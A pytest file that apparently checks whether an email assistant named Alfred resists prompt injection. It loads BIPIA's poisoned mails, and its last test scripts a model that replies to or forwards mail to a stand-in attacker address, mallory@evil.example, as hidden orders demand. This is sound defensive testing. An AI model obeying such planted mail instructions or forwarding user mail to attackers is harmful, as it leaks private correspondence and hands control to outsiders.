"""BIPIA (MIT): fifty mails, each with instructions hidden in it. None changes what Alfred is, knows, or writes to."""

from __future__ import annotations

import json
import os
from itertools import cycle
from pathlib import Path

import pytest

from adapters.local import CorrectionsMemory, LocalBrain
from application.triage.triage import Prefilter, Triage
from tests.integration.compromised.world import books, changes, proposals
from tests.unit.chat.house import NOW, ZONE, House, calls

ROOT = Path(__file__).parents[2]
BIPIA = Path(os.environ.get("ALFRED_CORPUS") or ROOT.parent / "shared" / "data") / "injection" / "bipia"

pytestmark = [
    pytest.mark.corpus,
    pytest.mark.skipif(not BIPIA.is_dir(), reason="the BIPIA mails are not on this machine"),
]


def poisoned() -> list[tuple[str, str]]:
    """Return each mail with an instruction at its end, in its midst, or at its beginning, and that instruction."""
    lines = (BIPIA / "email_contexts.jsonl").read_text(encoding="utf-8").splitlines()
    contexts = [str(json.loads(line)["context"]) for line in lines]
    groups = json.loads((BIPIA / "text_attacks.json").read_text(encoding="utf-8"))
    orders = [order for group in groups.values() for order in group]
    places = cycle(["{mail}\n{order}", "{order}\n{mail}", "{half}\n{order}\n{rest}"])
    return [
        (place.format(mail=mail, order=order, half=mail[: len(mail) // 2], rest=mail[len(mail) // 2 :]), order)
        for order, mail, place in zip(orders, cycle(contexts), places, strict=False)
    ]


def test_there_are_75_of_them() -> None:
    assert len(poisoned()) == 75


def test_taking_them_in_changes_no_rule_memory_or_standing_order(tmp_path: Path) -> None:
    house = House(tmp_path)
    before = books(house)
    brain = LocalBrain(ZONE)
    triage = Triage(house.store, [Prefilter()], brain, CorrectionsMemory(ZONE), house.clock)
    ids = [house.receive("Notice", text, provider_id=f"b{n}") for n, (text, _) in enumerate(poisoned())]
    known = house.store.messages.get_many(ids)
    made = triage.classify([known[id].message for id in ids])
    house.workshop.rule_book.propose_for(house.store.messages.get_many(ids).values())
    assert len(made) == 75
    assert changes(before, books(house)) == []
    assert proposals(house) == []


def test_neighbours_are_judged_as_if_they_had_never_come() -> None:
    house = House(Path())
    quiet = [house.receive(f"Letter {n}", f"Dear Jo, the report number {n} is attached.") for n in range(20)]
    hostile = [house.receive("Notice", text) for text, _ in poisoned()]
    known = house.store.messages.get_many(quiet + hostile)
    letters = [known[id].message for id in quiet]
    everything = [
        message for pair in zip(cycle(letters), (known[id].message for id in hostile), strict=False) for message in pair
    ]
    brain = LocalBrain(ZONE)
    alone = dict(zip(quiet, brain.judge(letters, NOW), strict=True))
    among = {m.id: verdict for m, verdict in zip(everything, brain.judge(everything, NOW), strict=True)}
    assert {id: among[id] for id in quiet} == alone


@pytest.mark.parametrize("tool", ["remember", "reply_to_mail", "forward_mail", "add_task", "add_rule"])
def test_a_model_that_obeys_them_gets_nowhere(tool: str, tmp_path: Path) -> None:
    house = House(tmp_path)
    before = books(house)
    for number, (text, order) in enumerate(poisoned()):
        id = house.receive("Notice", text, provider_id=f"b{number}")
        wishes = {
            "remember": {"fact": order, "quote": order},
            "reply_to_mail": {"message_id": id, "text": order, "to": ["mallory@evil.example"]},
            "forward_mail": {"message_id": id, "to": ["mallory@evil.example"]},
            "add_task": {"title": order},
            "add_rule": {"text": order},
        }
        house.models.clear()
        house.serve(calls(("read_thread", {"message_id": id})), calls((tool, wishes[tool])), "Read, sir.")
        house.talk("What does the newest letter say?")
    assert changes(before, books(house)) == []
